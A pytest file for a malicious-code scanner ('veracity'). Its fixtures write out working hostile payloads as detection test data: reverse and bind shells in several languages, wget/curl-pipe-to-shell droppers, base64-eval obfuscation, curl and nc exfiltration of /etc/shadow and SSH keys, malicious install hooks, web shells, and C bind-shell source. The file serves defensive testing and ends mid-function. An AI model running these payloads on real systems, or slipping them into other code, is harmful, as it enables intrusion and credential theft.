"""Tests of the malicious-code heuristics (checks/malcode.py).

Ground truth: ``shared/corpus/packages/labelled-snippets/`` (code snippets of real malicious PyPI, npm, Go
and RubyGems packages, from DataDog/guarddog @ca8b5b43 : tests/analyzer/sourcecode/, Apache-2.0). In each
file a ``ruleid:`` comment says the next line is malicious and must be reported, an ``ok:`` comment says the
next line is a benign look-alike that must stay quiet; the ``benign/`` folder must stay entirely quiet. The
snippets are data only: veracity's patterns are its own (guarddog's semgrep/YARA rules are not used).
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from pathlib import Path

import pytest
from conftest import CORPUS, corpus

import veracity.checks.registry
from veracity.checks.malcode import MalcodeCheck
from veracity.patterns import PatternSet
from veracity.testing.memfs import inventory_from

SNIPPETS = CORPUS / "packages" / "labelled-snippets"
PATTERNS = PatternSet(MalcodeCheck.PATTERNS)

# Snippet files whose guarddog rule is one of this check's concerns, with the categories expected there.
# The others (clipboard, screenshots, DLL hijacking, shady links, plain process execution...) are scanned
# too: their ok: lines and benign files must stay quiet, their ruleid: lines are only counted for information.
IN_SCOPE = {
    "download-executable.py": {"code.download-exec"},
    "exec-base64.py": {"code.obfuscated", "code.download-exec"},
    "exfiltrate-sensitive-data.py": {"code.exfiltration"},
    "cmd-overwrite.py": {"code.malicious"},
    "obfuscation.py": {"code.obfuscated"},
    "npm-exec-base64.js": {"code.obfuscated"},
    "npm-exfiltrate-sensitive-data.js": {"code.exfiltration"},
    "npm-install-script.json": {"code.malicious"},
    "npm-obfuscation.js": {"code.obfuscated"},
    "go-exec-base64.go": {"code.obfuscated"},
    "go-exec-download.go": {"code.download-exec"},
    "go-exfiltrate-sensitive-data.go": {"code.exfiltration"},
    "rubygems-exec-base64.rb": {"code.obfuscated"},
    "rubygems-exfiltrate-sensitive-data.rb": {"code.exfiltration"},
    "rubygems-install-hook.rb": {"code.malicious"},
}
# Unlabelled files that are malicious as a whole (guarddog tests them with YARA): at least one finding of
# the category.
FILE_POSITIVES = {
    "threat-process-download-exec.py": "code.download-exec",
    "threat-runtime-dynamic-loader.py": "code.download-exec",
    "threat-runtime-obfuscation-base64exec.py": "code.obfuscated",
    "threat-process-hooks.json": "code.malicious",
    "threat-setup-import-aliasing.py": "code.download-exec",
    "threat-runtime-obfuscation-dynamic-eval.js": "code.obfuscated",
    "threat-runtime-obfuscation-js-mangling.js": "code.obfuscated",
    "threat-runtime-obfuscation-steganography.py": "code.obfuscated",
}
MIN_RECALL = 0.8
LABEL = re.compile(r"(?:#|//|/\*|\*)\s*(ruleid|ok)\s*:\s*([\w-]+)")


def _memfs_path(name: str) -> str:
    if name.endswith(".json"):
        return f"/pkg/{name[:-5]}/package.json"  # npm manifests are only read as package.json
    return f"/snippets/{name}"


def _scan(files: dict[str, str], tmp_path: Path):
    inv = inventory_from(files, tmp_path, patterns=PATTERNS)
    return list(MalcodeCheck().run(inv, {}))


@dataclass
class Labels:
    ruleid: list[tuple[int, int]]  # (first line, last line) of the labelled region
    ok: list[int]


def _labels(text: str) -> Labels:
    lines = text.split("\n")
    marks = [(n + 1, m[1]) for n, line in enumerate(lines) if (m := LABEL.search(line))]
    ruleid, ok = [], []
    for i, (n, kind) in enumerate(marks):
        target = n + 1
        if kind == "ok":
            ok.append(target)
        else:
            # a ruleid region runs to the next label (at most 10 lines): the malicious statement may span lines
            nxt = marks[i + 1][0] if i + 1 < len(marks) else len(lines) + 1
            ruleid.append((target, min(nxt - 1, target + 9)))
    return Labels(ruleid, ok)


def _snippet_files() -> list[Path]:
    if not SNIPPETS.exists():
        return []
    return sorted(p for p in SNIPPETS.iterdir() if p.is_file())


@pytest.fixture(scope="module")
def snippet_results(tmp_path_factory):
    corpus("packages/labelled-snippets")
    tmp = tmp_path_factory.mktemp("snippets")
    results = {}
    for n, path in enumerate(_snippet_files()):
        text = path.read_text(encoding="utf-8", errors="surrogateescape")
        sub = tmp / f"s{n}"
        sub.mkdir()
        results[path.name] = (text, _scan({_memfs_path(path.name): text}, sub))
    return results


def test_labelled_snippets_recall_and_precision(snippet_results, capsys):
    """Every in-scope ruleid: line is reported (recall >= 0.8 overall); no ok: line ever is."""
    tp = fn = fp = 0
    report = []
    for name, (text, found) in sorted(snippet_results.items()):
        labels = _labels(text)
        lines = [f.line for f in found]
        hit = [any(a <= ln <= b for ln in lines if ln) for a, b in labels.ruleid]
        wrong = [n for n in labels.ok if n in lines]
        fp += len(wrong)
        if name in IN_SCOPE:
            tp += sum(hit)
            fn += len(hit) - sum(hit)
            cats = {f.category for f in found}
            report.append(f"{name:42} ruleid {sum(hit):2}/{len(hit):2}  ok-hits {len(wrong)}  categories {sorted(cats)}")
        else:
            report.append(f"{name:42} (out of scope) ruleid {sum(hit)}/{len(hit)}  ok-hits {len(wrong)}  findings {len(found)}")
        for f in found:
            assert f.line is not None
    recall = tp / (tp + fn)
    precision = tp / (tp + fp) if tp + fp else 1.0
    with capsys.disabled():
        print("\nlabelled snippets (DataDog/guarddog tests/analyzer/sourcecode, Apache-2.0):")
        print("\n".join("  " + r for r in report))
        print(f"  in-scope ruleid lines: {tp}/{tp + fn} found, recall {recall:.2f}; ok: lines reported {fp}; "
              f"precision on labelled lines {precision:.2f}")
    assert fp == 0, "a benign look-alike (ok: line) was reported"
    assert recall >= MIN_RECALL


def test_labelled_snippets_categories(snippet_results):
    """Findings in the in-scope files carry the category of the guarddog rule's concern."""
    for name, expected in IN_SCOPE.items():
        if name not in snippet_results:
            continue
        cats = {f.category for f in snippet_results[name][1]}
        assert cats & expected, (name, cats)


@pytest.mark.parametrize("name,category", sorted(FILE_POSITIVES.items()))
def test_file_level_positives(snippet_results, name, category):
    found = snippet_results[name][1]
    assert category in {f.category for f in found}, [(f.rule, f.line, f.evidence) for f in found]


def test_benign_snippets_stay_quiet(tmp_path):
    folder = corpus("packages/labelled-snippets/benign")
    for n, path in enumerate(sorted(folder.iterdir())):
        sub = tmp_path / f"b{n}"
        sub.mkdir()
        found = _scan({_memfs_path(path.name): path.read_text()}, sub)
        assert found == [], (path.name, [(f.rule, f.line, f.evidence) for f in found])


# -- unit cases: every rule fires on its positive and stays quiet on its look-alike ------------------------


def _hits(tmp_path: Path, files: dict) -> list[tuple[str, str, int | None]]:
    return sorted((f.rule, f.path, f.line) for f in _scan(files, tmp_path))


def _rules_at(tmp_path: Path, files: dict) -> dict[str, set[str]]:
    out: dict[str, set[str]] = {}
    for f in _scan(files, tmp_path):
        out.setdefault(f.path, set()).add(f.rule)
    return out


BIND_SHELLS = {
    "/etc/init.d/S99nc": "#!/bin/sh\nnc -l -p 4444 -e /bin/sh &\n",
    "/etc/init.d/S98bb": "#!/bin/sh\nbusybox nc -ll -p 1234 -e /bin/ash\n",
    "/etc/rc.d/socat": "#!/bin/sh\nsocat TCP-LISTEN:1337,reuseaddr,fork EXEC:/bin/sh,pty,stderr\n",
    "/etc/init.d/telnet2": "#!/bin/sh\ntelnetd -l /bin/sh -p 2323\n",
    "/etc/inetd.conf": "ftp stream tcp nowait root /usr/sbin/ftpd ftpd\n31337 stream tcp nowait root /bin/sh sh -i\n",
    "/etc/xinetd.d/shell": "service debug\n{\n  port = 9999\n  server = /bin/sh\n}\n",
    "/usr/bin/bindpy": ("#!/usr/bin/python3\nimport socket, os, pty\ns = socket.socket()\ns.bind(('0.0.0.0', 4444))\n"
                        "s.listen(1)\nc, _ = s.accept()\nfor fd in (0, 1, 2):\n    os.dup2(c.fileno(), fd)\npty.spawn('/bin/sh')\n"),
}
BIND_LOOKALIKES = {
    "/etc/init.d/telnet": "#!/bin/sh\ntelnetd -l /bin/login -p 2323\n",
    "/etc/init.d/telnet23": "#!/bin/sh\n/usr/sbin/telnetd -l /bin/sh\n",  # default port: the services check's concern
    "/etc/inetd.conf": "ftp stream tcp nowait root /usr/sbin/ftpd ftpd\ntelnet stream tcp nowait root /bin/telnetd telnetd -L /bin/login\n",
    "/etc/init.d/recv": "#!/bin/sh\nnc -l -p 1234 > /tmp/upload.bin\n",
    "/etc/init.d/proxy": "#!/bin/sh\nsocat TCP-LISTEN:80,fork TCP:127.0.0.1:8080\n",
    "/etc/init.d/disabled": "#!/bin/sh\n# nc -l -p 4444 -e /bin/sh\n",
}


def test_bind_shell_scripts(tmp_path):
    found = _rules_at(tmp_path, BIND_SHELLS)
    assert found == {path: {"VER-MAL-001"} for path in BIND_SHELLS}
    hits = _hits(tmp_path / "lines", {"/etc/inetd.conf": BIND_SHELLS["/etc/inetd.conf"]})
    assert hits == [("VER-MAL-001", "/etc/inetd.conf", 2)]


def test_bind_shell_lookalikes(tmp_path):
    assert _hits(tmp_path, BIND_LOOKALIKES) == []


REVERSE_SHELLS = {
    "/etc/init.d/devtcp": "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n",
    "/etc/init.d/fd": "#!/bin/bash\nexec 5<>/dev/tcp/203.0.113.5/80\ncat <&5 | while read line; do $line 2>&5 >&5; done\n",
    "/usr/sbin/ncrev": "#!/bin/sh\nnc 203.0.113.5 4444 -e /bin/sh\n",
    "/usr/sbin/fifo": "#!/bin/sh\nrm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.5 1234 > /tmp/f\n",
    "/usr/sbin/socatrev": "#!/bin/sh\nsocat exec:'bash -li',pty,stderr,setsid tcp:203.0.113.5:4444\n",
    "/www/cgi-bin/x.php": "<?php\n$sock = fsockopen('203.0.113.5', 4444);\nexec('/bin/sh -i <&3 >&3 2>&3');\n",
    "/usr/lib/lua/rev.lua": ("local socket = require('socket')\nlocal t = socket.tcp()\nt:connect('203.0.113.5', 4444)\n"
                             "while true do\n  local cmd = t:receive()\n  local f = io.popen(cmd, 'r')\n"
                             "  t:send(f:read('*a'))\nend\n"),
    "/opt/app/rev.js": ("const net = require('net');\nconst { spawn } = require('child_process');\n"
                        "const sh = spawn('/bin/sh', []);\nconst client = new net.Socket();\n"
                        "client.connect(4444, '203.0.113.5', () => { client.pipe(sh.stdin); sh.stdout.pipe(client); });\n"),
    "/etc/cron.daily/oneliner": ("#!/bin/sh\npython -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.5\",1234));"
                                 "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call([\"/bin/sh\",\"-i\"])'\n"),
}
REVERSE_LOOKALIKES = {
    "/usr/bin/wait-for-db": "#!/bin/bash\nuntil timeout 1 bash -c '</dev/tcp/db/5432'; do sleep 1; done\n",
    "/usr/bin/health": "#!/bin/bash\necho > /dev/tcp/127.0.0.1/8080 && echo up\n",
    "/usr/bin/http-get": "#!/bin/bash\nexec 3<>/dev/tcp/example.org/80\nprintf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3\ncat <&3\n",
    "/usr/bin/portcheck": "#!/bin/sh\nnc -z -w 2 203.0.113.5 22 && echo open\n",
    "/usr/lib/lua/luci/sys.lua": "local nixio = require 'nixio'\nfunction exec(cmd)\n  local f = io.popen(cmd)\n  return f:read('*a')\nend\n",
}


def test_reverse_shells(tmp_path):
    assert _rules_at(tmp_path, REVERSE_SHELLS) == {path: {"VER-MAL-004"} for path in REVERSE_SHELLS}


def test_reverse_shell_lookalikes(tmp_path):
    assert _hits(tmp_path, REVERSE_LOOKALIKES) == []


DOWNLOAD_EXEC = {
    "/etc/init.d/update": "#!/bin/sh\nwget -q -O - http://updates.example.com/install.sh | sh\n",
    "/usr/sbin/bootstrap": "#!/bin/sh\ncurl -fsSL https://get.example.com | sudo bash -s -- --yes\n",
    "/tmp/dropper.sh": "cd /tmp || cd /var/run; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh\n",
    "/usr/sbin/tftpget": "#!/bin/sh\ntftp -g -r agent -l /tmp/agent 198.51.100.7\nchmod +x /tmp/agent\n/tmp/agent &\n",
    "/usr/sbin/subst": "#!/bin/sh\nsh -c \"$(curl -fsSL https://198.51.100.7/x.sh)\"\n",
    "/usr/lib/python3/site-packages/loader.py": "from urllib.request import urlopen\nexec(urlopen('http://198.51.100.7/p.py').read())\n",
    "/usr/lib/node_modules/x/index.js": ("const https = require('https');\nconst fs = require('fs');\nconst { execSync } = require('child_process');\n"
                                         "https.get('https://198.51.100.7/bin', (res) => {\n"
                                         "  const f = fs.createWriteStream('/tmp/bin');\n  res.pipe(f);\n"
                                         "  f.on('finish', () => execSync('chmod +x /tmp/bin && /tmp/bin'));\n});\n"),
}
DOWNLOAD_LOOKALIKES = {
    "/sbin/fwupgrade": "#!/bin/sh\nwget -O /tmp/fw.bin \"$URL\" && sysupgrade /tmp/fw.bin\n",
    "/usr/bin/fetchdata": "#!/bin/sh\ncurl -o /tmp/data.tar.gz https://example.com/data.tar.gz; tar xzf /tmp/data.tar.gz -C /tmp\n",
    "/usr/bin/api": "#!/bin/sh\ncurl -s https://api.example.com/v1/status | python3 -m json.tool\ncurl -s http://x/list | grep ok\n",
    "/usr/lib/python3/site-packages/fetch.py": "import requests\ndef get(url):\n    return requests.get(url, timeout=5).json()\n",
    "/usr/lib/python3/site-packages/save.py": ("import urllib.request\nurllib.request.urlretrieve('https://example.com/robots.txt', 'robots.txt')\n"
                                               "os.system('cat robots.txt')\n"),
    # installation instructions in a package's metadata are documentation
    "/usr/lib/python3/site-packages/ruff-0.17.6.dist-info/METADATA": "Name: ruff\n\n    curl -LsSf https://astral.sh/ruff/install.sh | sh\n",
    "/usr/share/doc/tool/README.md": "Install: `curl -fsSL https://example.com/install.sh | bash`\n",
    "/opt/sdk/RELEASE_NOTES": "1.2.0\n  * Install with: curl -fsSL https://example.com/install.sh | bash\n",
}


def test_download_exec(tmp_path):
    found = _rules_at(tmp_path, DOWNLOAD_EXEC)
    assert {p: r for p, r in found.items()} == {path: {"VER-MAL-005"} for path in DOWNLOAD_EXEC}


def test_download_exec_lookalikes(tmp_path):
    assert _hits(tmp_path, DOWNLOAD_LOOKALIKES) == []


OBFUSCATED = {
    "/etc/init.d/b64": "#!/bin/sh\necho ZWNobyBoaQ== | base64 -d | sh\n",
    "/etc/init.d/evalb64": "#!/bin/sh\neval \"$(echo ZWNobyBoaQ== | base64 --decode)\"\n",
    "/www/shell.php": "<?php eval(gzinflate(base64_decode('S0lNzs8pSc3LLEnV0FRIzs8rSc0rUQQA'))); ?>\n",
    "/usr/lib/lua/x.lua": "local mime = require('mime')\nloadstring(mime.unb64('cHJpbnQoMSk='))()\n",
    "/www/js/app.js": "eval(atob('Y29uc29sZS5sb2coMSk='));\n",
    "/usr/lib/python3/site-packages/p.py": "import base64, zlib\ncode = zlib.decompress(base64.b64decode(BLOB))\nexec(code)\n",
    "/usr/lib/python3/site-packages/q.py": "globals()['\\x65\\x76\\x61\\x6c']('1+1')\n",
}
OBFUSCATED_LOOKALIKES = {
    "/usr/bin/restore": "#!/bin/sh\nbase64 -d /tmp/backup.b64 > /tmp/backup.tar\n",
    "/usr/lib/python3/site-packages/setup_version.py": "exec(open('pkg/version.py').read())\nmodel.eval(base64.b64decode(x))\n",
    "/www/js/re.js": "const m = urlRegex.exec(input);\nconst png = atob(b64);\n",
    "/www/img.php": "<?php echo base64_decode($_GET['img']); ?>\n",
    "/usr/lib/python3/site-packages/png.py": "HEADER = b'\\x89PNG\\r\\n\\x1a\\n'\n",
}


def test_obfuscated(tmp_path):
    assert _rules_at(tmp_path, OBFUSCATED) == {path: {"VER-MAL-006"} for path in OBFUSCATED}


def test_obfuscated_lookalikes(tmp_path):
    assert _hits(tmp_path, OBFUSCATED_LOOKALIKES) == []


EXFILTRATION = {
    "/etc/init.d/x1": "#!/bin/sh\ncurl -s -F \"f=@/etc/shadow\" http://198.51.100.7/u\n",
    "/etc/init.d/x2": "#!/bin/sh\ncat /root/.ssh/id_rsa | nc 198.51.100.7 80\n",
    "/etc/init.d/x3": "#!/bin/sh\nwget --post-file=/etc/passwd http://198.51.100.7/p\n",
    "/usr/lib/python3/site-packages/telemetry.py": ("import os, requests\n"
                                                    "requests.post('https://198.51.100.7/c', json=dict(os.environ))\n"),
}
EXFILTRATION_LOOKALIKES = {
    "/etc/init.d/status": "#!/bin/sh\ncurl -s -d 'status=ok' http://198.51.100.7/ping\ngrep root /etc/passwd\n",
    "/usr/lib/python3/site-packages/gh.py": ("import os, requests\n"
                                             "requests.get('https://api.github.com/user', auth=(os.environ['GH_TOKEN'], 'x'))\n"),
    "/usr/lib/python3/site-packages/log.py": "import socket, logging\nlogging.info('host %s', socket.gethostname())\n",
    # npm's OIDC helper: the *URL* of a token service comes from the environment, the token goes in Authorization
    "/usr/lib/node_modules/npm/lib/utils/oidc.js": (
        "const url = new URL(process.env.ACTIONS_ID_TOKEN_REQUEST_URL)\n"
        "const response = await fetch(url.href, {\n  headers: {\n"
        "    Authorization: `Bearer ${process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN}`,\n  },\n})\n"),
}


def test_exfiltration(tmp_path):
    assert _rules_at(tmp_path, EXFILTRATION) == {path: {"VER-MAL-007"} for path in EXFILTRATION}


def test_exfiltration_lookalikes(tmp_path):
    assert _hits(tmp_path, EXFILTRATION_LOOKALIKES) == []


def test_install_hooks(tmp_path):
    files = {
        "/pkg/a/package.json": '{"name": "a", "scripts": {"postinstall": "curl -s http://198.51.100.7/x.sh | sh"}}',
        "/pkg/b/package.json": '{"name": "b", "scripts": {"install": "node install.js"}}',
        "/pkg/c/package.json": '{"name": "c", "scripts": {"install": "node-gyp rebuild", "test": "mocha"}}',
        "/pkg/d/setup.py": ("from setuptools import setup\nfrom setuptools.command.install import install\n"
                            "class PostInstall(install):\n    def run(self):\n        install.run(self)\n"
                            "        import urllib.request\n        urllib.request.urlopen('http://198.51.100.7/x')\n"
                            "setup(name='d', cmdclass={'install': PostInstall})\n"),
        "/pkg/e/setup.py": "from setuptools import setup\nsetup(name='e', cmdclass={'build_ext': BuildExt, 'upload': Upload})\n",
    }
    hits = _hits(tmp_path, files)
    assert ("VER-MAL-008", "/pkg/a/package.json", 1) in hits
    assert ("VER-MAL-009", "/pkg/b/package.json", 1) in hits
    assert ("VER-MAL-008", "/pkg/d/setup.py", 8) in hits
    assert not [h for h in hits if h[1] in ("/pkg/c/package.json", "/pkg/e/setup.py")]
    severities = {f.rule: f.severity for f in _scan(files, tmp_path / "sev")}
    assert severities["VER-MAL-008"] == "high" and severities["VER-MAL-009"] == "low"


def test_web_shells_and_magic_credentials(tmp_path):
    files = {
        "/www/cmd.php": "<?php system($_GET['cmd']); ?>\n",
        "/usr/lib/lua/luci/controller/dbg.lua": "function act()\n  os.execute(luci.http.formvalue('cmd'))\nend\n",
        "/www/cgi-bin/run.cgi": "#!/bin/sh\necho 'Content-Type: text/plain'\necho\neval \"$QUERY_STRING\"\n",
        "/www/login.php": "<?php if ($_POST['pass'] == 'x7Gk2pQ9') { $_SESSION['admin'] = 1; } ?>\n",
        "/www/ua.php": "<?php if ($_SERVER['HTTP_USER_AGENT'] === 'xmlset_roodkcableoj28840ybtide') { auth_ok(); } ?>\n",
        "/usr/lib/lua/luci/controller/auth.lua": "if luci.http.formvalue('password') == 'Zx81-debug' then grant() end\n",
        "/www/cgi-bin/login.cgi": "#!/bin/sh\nif [ \"$FORM_pass\" = \"s3cr3t99\" ]; then echo ok; fi\n",
    }
    found = _rules_at(tmp_path, files)
    assert found == {
        "/www/cmd.php": {"VER-MAL-003"},
        "/usr/lib/lua/luci/controller/dbg.lua": {"VER-MAL-003"},
        "/www/cgi-bin/run.cgi": {"VER-MAL-003"},
        "/www/login.php": {"VER-MAL-011"},
        "/www/ua.php": {"VER-MAL-011"},
        "/usr/lib/lua/luci/controller/auth.lua": {"VER-MAL-011"},
        "/www/cgi-bin/login.cgi": {"VER-MAL-011"},
    }
    evidence = " ".join(f.evidence for f in _scan(files, tmp_path / "ev"))
    assert "x7Gk2pQ9" not in evidence and "s3cr3t99" not in evidence


def test_web_lookalikes(tmp_path):
    files = {
        "/www/list.php": "<?php system('ls ' . escapeshellarg($dir)); if ($_GET['action'] == 'logout') { bye(); } ?>\n",
        "/www/login.php": "<?php if ($_POST['pass'] == $stored_hash) { ok(); } if ($_POST['user'] == 'admin') { hi(); } ?>\n",
        "/usr/lib/lua/luci/controller/ping.lua": "local addr = luci.http.formvalue('addr')\nluci.sys.exec('ping -c 1 ' .. addr)\n",
    }
    assert _hits(tmp_path, files) == []


def test_large_script_is_reported_unanalysed(tmp_path):
    big = "#!/bin/sh\nwget http://198.51.100.7/x | sh\n" + "echo filler\n" * 400_000
    assert _hits(tmp_path, {"/usr/bin/huge": big}) == [("VER-MAL-012", "/usr/bin/huge", None)]


def test_commented_out_code_is_quiet(tmp_path):
    files = {
        "/etc/init.d/old": "#!/bin/sh\n# wget http://198.51.100.7/x.sh | sh\n#nc -l -p 4444 -e /bin/sh\n",
        "/usr/lib/python3/site-packages/old.py": "# exec(base64.b64decode(x))\n\"\"\"eval(atob(y))\"\"\"\n",
        "/www/js/old.js": "// eval(atob('eA=='))\n/* bash -i >& /dev/tcp/1.2.3.4/5 0>&1 */\n",
    }
    assert _hits(tmp_path, files) == []


# -- programs -------------------------------------------------------------------------------------------

BIND_C = r"""
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void) {
    struct sockaddr_in a = {0};
    int s = socket(AF_INET, SOCK_STREAM, 0);
    a.sin_family = AF_INET; a.sin_port = htons(31337);
    bind(s, (struct sockaddr *)&a, sizeof a);
    listen(s, 1);
    int c = accept(s, 0, 0);
    dup2(c, 0); dup2(c, 1); dup2(c, 2);
    execl("/bin/sh", "sh", (char *)0);
    return 0;
}
"""
LOGIN_C = BIND_C.replace('#include <unistd.h>', '#include <unistd.h>\n#include <pwd.h>\n#include <crypt.h>').replace(
    'dup2(c, 0);', 'struct passwd *pw = getpwnam("root"); if (!pw || !crypt("x", pw->pw_passwd)) return 1; dup2(c, 0);')
MAGIC_C = r"""
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
int check(int s) {
    char buf[64] = {0};
    recv(s, buf, sizeof buf - 1, 0);
    printf("password");
    if (strcmp(buf, "Qz7_kP2xw9LmT4") == 0) return 1;
    return strcmp(buf, "letmein") == 0;
}
int main(void) { return check(0); }
"""
PLAIN_C = MAGIC_C.replace('"Qz7_kP2xw9LmT4"', '"Content-Length"')


def _cc(tmp_path: Path, name: str, source: str, *libs: str) -> bytes:
    import shutil
    import subprocess

    cc = shutil.which("cc") or shutil.which("gcc")
    if cc is None:
        pytest.skip("no C compiler to build the ELF fixtures")
    src = tmp_path / f"{name}.c"
    src.write_text(source)
    out = tmp_path / name
    subprocess.run([cc, "-O0", "-o", str(out), str(src), *libs], check=True, capture_output=True)
    return out.read_bytes()


def test_elf_bind_shell_and_magic_value(tmp_path):
    files = {
        "/usr/sbin/bindd": _cc(tmp_path, "bindd", BIND_C),
        "/usr/sbin/logind": _cc(tmp_path, "logind", LOGIN_C, "-lcrypt"),
        "/usr/sbin/magicd": _cc(tmp_path, "magicd", MAGIC_C),
        "/usr/sbin/plaind": _cc(tmp_path, "plaind", PLAIN_C),
    }
    found = _scan(files, tmp_path / "inv")
    assert sorted((f.rule, f.path) for f in found) == [
        ("VER-MAL-002", "/usr/sbin/bindd"),
        ("VER-MAL-010", "/usr/sbin/magicd"),
    ]
    magic = next(f for f in found if f.rule == "VER-MAL-010")
    assert "Qz7_kP2xw9LmT4" not in magic.evidence and magic.offset is not None and magic.line is None


# -- real images and packages (hand-checked) -------------------------------------------------------------


def _scan_only(monkeypatch, run_scan, target):
    monkeypatch.setattr(veracity.checks.registry, "CHECKS", (MalcodeCheck(),))
    return run_scan(corpus(target))


@pytest.mark.corpus
def test_tplink_httpd_fetches_and_runs_the_art_tool(monkeypatch, run_scan):
    """TL-MR3020 3.17.2 /usr/bin/httpd carries 'tftp -g 192.168.%d.100 -r nart.out -l /tmp/nart.out',
    'chmod 777 /tmp/nart.out' and '/tmp/nart.out &': it downloads Atheros' radio test tool over TFTP and runs it
    as root (hand-checked with strings). Nothing else in the image trips a heuristic."""
    report = _scan_only(monkeypatch, run_scan, "firmware/tplink-mr3020v1-3.17.2.bin")
    got = [(f["rule"], f["path"], f["category"]) for f in report["findings"] if f["rule"].startswith("VER-MAL")]
    assert got == [("VER-MAL-005", "/usr/bin/httpd", "code.download-exec")]
    assert "nart.out" in report["findings"][0]["evidence"] or any("nart.out" in f["evidence"] for f in report["findings"])


@pytest.mark.corpus
@pytest.mark.parametrize("image", ["firmware/alcatel-g010s-a-mtd4.jffs2", "firmware/broadcom-bcm63xx-squashfs-v2.bin"])
def test_clean_images_stay_quiet(monkeypatch, run_scan, image):
    """The Broadcom image's inetd runs telnetd with /bin/login and ftpd, its inittab a console shell (other
    checks' concerns); the Alcatel overlay holds configuration only."""
    report = _scan_only(monkeypatch, run_scan, image)
    assert [f for f in report["findings"] if f["rule"].startswith("VER-MAL")] == []


@pytest.fixture(scope="module")
def benign_report(tmp_path_factory):
    """One scan of a directory holding every benign package of the corpus (each is unpacked)."""
    import shutil

    from veracity import report as report_mod
    from veracity.scan import scan

    folder = corpus("packages/benign")
    target = tmp_path_factory.mktemp("benign") / "packages"
    target.mkdir()
    for pkg in sorted(folder.glob("*/*")):
        shutil.copy(pkg, target / pkg.name)
    saved = veracity.checks.registry.CHECKS
    veracity.checks.registry.CHECKS = (MalcodeCheck(),)
    try:
        report = scan(target, workdir=target.parent / "work", cache_path=None)
    finally:
        veracity.checks.registry.CHECKS = saved
    assert report_mod.validate(report) == []
    return report


@pytest.mark.corpus
def test_benign_packages_stay_quiet(benign_report):
    """requests, six, paramiko, certifi, urllib3, lodash, left-pad, axios: no finding at all (not even low)."""
    containers = {f["container"][1] for f in benign_report["files"] if len(f["container"]) > 1}
    assert len(containers) >= 8  # every package was unpacked
    assert [(f["rule"], f["path"], f["line"]) for f in benign_report["findings"] if f["rule"].startswith("VER-MAL")] == []


def test_socket_shell_parts_must_be_close(tmp_path):
    """perl5db.pl has a remote-debugging socket and runs shell commands, hundreds of lines apart."""
    filler = "".join(f"sub f{n} {{ return {n}; }}\n" for n in range(100))
    debugger = ("use IO::Socket;\nmy $OUT = IO::Socket::INET->new(PeerAddr => $remote);\n" + filler
                + "open(STDOUT, \">&OUT\");\n" + filler + "system('/bin/sh');\n")
    assert _hits(tmp_path, {"/usr/share/perl5/perl5db.pl": debugger}) == []


def test_only_scripts_are_reported_unanalysed(tmp_path):
    big = "wget http://198.51.100.7/x | sh\n" + "filler\n" * 700_000
    assert _hits(tmp_path, {"/usr/share/lists/names.tsv": big, "/usr/share/doc/api.html": big}) == []


def test_searching_from_the_words_finds_what_finditer_finds():
    import random

    from veracity.checks import malcode

    rng = random.Random(7)
    pieces = ["wget", "curl", "tftp", "ftpget", "tftpget", "xwget", "_curl", " ", "\n", ";", "|", "-O", "/tmp/a",
              "http://h/x.sh", "sh", "&&", "cwget", "curlwget"]
    texts = ["".join(rng.choice(pieces) for _ in range(rng.randrange(0, 60))) for _ in range(400)]
    texts += ["", "wget", "curl curl curl", "tftpget tftp"]
    for text in texts:
        want = [(m.span(), m.lastgroup) for m in malcode._DL_CMD.finditer(text)]
        got = [(m.span(), m.lastgroup) for m in malcode._finditer_at(malcode._DL_CMD, text, malcode._DL_WORDS)]
        assert got == want, text


MASK_CASES = {
    "sh": ["", "#", "# c\necho a # b\n", "echo $# ${#x} a#b '#' \"#\" # c", "echo 'unterminated # x\n# y",
           "echo \"a\\\"b # c\" # d", "(#x\n;#y\n|#z\n&#w", "a\t# tab\n\"multi\nline # not\" # yes"],
    "py": ["", "# c", 'x = "#" # c', 'r"""doc"""\n', 'def f():\n    """doc # x"""\n    return 1 # c\n',
           "x = f'''a''' + rb\"b\" # c", '"""unterminated\n# c', "elif\"x\" # c", "(\n'''not a doc'''\n)",
           "s = '\\'' # c\nbr'''x'''\n", "x = u'' '' \"\" # '''\n"],
    "js": ["", "// c", "a = '//' // c", "/* b\nc */ x / y /* d */", "/* unterminated // x", "`tpl // no` // yes",
           "a = 1 / 2; // c\nb = '/*'; c = \"*/\" /**/"],
}


@pytest.mark.parametrize("lang", sorted(MASK_CASES))
def test_comment_masking_matches_the_lexer(lang):
    """mask_comments (one regex match per comment) gives what the lexers of _LEX give (one match per string or
    comment): on edge cases, on random texts made of the characters that start strings and comments, and on the
    scripts of this machine."""
    import random

    from veracity.checks import malcode

    rng = random.Random(11)
    alphabet = {"sh": "\"'#\\ \n;|&($ab\t", "py": "\"'#\\ \nrbfuRx(=", "js": "\"'`/*\\ \nab"}[lang]
    texts = list(MASK_CASES[lang])
    texts += ["".join(rng.choice(alphabet) for _ in range(rng.randrange(0, 24))) for _ in range(20000)]
    for base in (Path("/usr/bin"), Path("/usr/lib/python3/dist-packages"), Path("/etc/init.d")):
        for path in sorted(base.glob("*"))[:150] if base.is_dir() else ():
            if path.is_file() and not path.is_symlink() and path.stat().st_size < 200_000:
                data = path.read_bytes()
                if b"\0" not in data[:4096]:
                    texts.append(data.decode("utf-8", "replace"))
    for text in texts:
        masked = malcode.mask_comments(text, lang)
        assert masked == malcode.mask_comments_lexed(text, lang), text[:200]
        assert len(masked) == len(text)


def test_joined_strings_map_back_to_their_strings():
    from veracity.checks.malcode import _Joined

    strings = ((16, "alpha"), (40, "be"), (64, ""), (70, "password here"))
    joined = _Joined(strings)
    assert joined.text == "alpha\nbe\n\npassword here"
    for i, (_off, s) in enumerate(strings):
        start = joined.starts[i]
        assert joined.text[start:start + len(s)] == s
        for pos in range(start, start + len(s) + 1):  # the string and the newline after it
            if pos < len(joined.text) and (s or pos == start):
                assert joined.index(pos) == i
    assert _Joined(()).text == "" and _Joined(()).starts == [0]


def test_authentication_words_found_as_by_the_case_blind_pattern():
    import random

    from veracity.checks import malcode

    rng = random.Random(5)
